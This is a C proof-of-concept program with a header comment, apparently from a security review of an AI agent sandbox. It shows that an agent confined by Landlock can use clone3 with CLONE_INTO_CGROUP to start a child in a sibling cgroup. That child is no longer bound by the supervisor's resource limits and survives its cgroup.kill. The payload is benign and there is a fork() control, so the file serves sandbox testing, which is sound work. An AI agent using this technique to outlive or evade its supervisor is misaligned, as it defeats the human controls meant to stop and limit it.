/*
 * ll-into-cgroup: hostile review of 81467e7. The agent's Landlock domain
 * handles WRITE_FILE and grants none beneath cgroup mounts, so the agent
 * cannot open cgroup.procs for writing; but clone3(CLONE_INTO_CGROUP)
 * checks the same migration permission with inode_permission() on the
 * common ancestor's cgroup.procs (kernel/cgroup/cgroup.c,
 * cgroup_may_write), which no Landlock hook sees. So where the
 * supervisor's cgroup is delegated to the agent's uid, the agent makes a
 * sibling cgroup (mkdir: MAKE_DIR is not handled) and starts a child in it:
 * that child is out of the supervisor's cgroup (out of its pids.max and
 * memory.max, and of a cgroup.kill of it, which is how systemd stops a unit).
 *
 *     ll-into-cgroup ESC MARK [fork]
 *
 * ESC: the cgroup to make and start the child in; MARK: a file the child
 * appends a line to every 100 ms for 30 s. With "fork" the child is started
 * by plain fork() instead (the control). The agent then waits for ever.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct clone_args ca;
	pid_t pid;
	int cfd;

	if (argc < 3)
		return 2;
	if (argc > 3 && strcmp(argv[3], "fork") == 0) {
		pid = fork();
	} else {
		if (mkdir(argv[1], 0755) != 0 && errno != EEXIST)
			printf("mkdir %s: %s\n", argv[1], strerror(errno));
		cfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		memset(&ca, 0, sizeof(ca));
		ca.flags = CLONE_INTO_CGROUP;
		ca.exit_signal = SIGCHLD;
		ca.cgroup = (uint64_t)cfd;
		pid = (pid_t)syscall(SYS_clone3, &ca, sizeof(ca));
	}
	if (pid < 0) {
		printf("clone: %s\n", strerror(errno));
		fflush(stdout);
		return 1;
	}
	if (pid == 0) {
		for (int i = 0; i < 300; i++) {
			FILE *f = fopen(argv[2], "a");
			char cg[256] = "";
			FILE *c = fopen("/proc/self/cgroup", "r");

			while (c && fgets(cg, sizeof(cg), c) && strncmp(cg, "0::", 3) != 0)
				;
			if (c)
				fclose(c);
			if (f) {
				fprintf(f, "%d %ld ppid=%d %s", i, (long)time(NULL), (int)getppid(),
					cg);
				fclose(f);
			}
			usleep(100000);
		}
		_exit(0);
	}
	printf("child %d started\n", (int)pid);
	fflush(stdout);
	for (;;)
		pause();
}
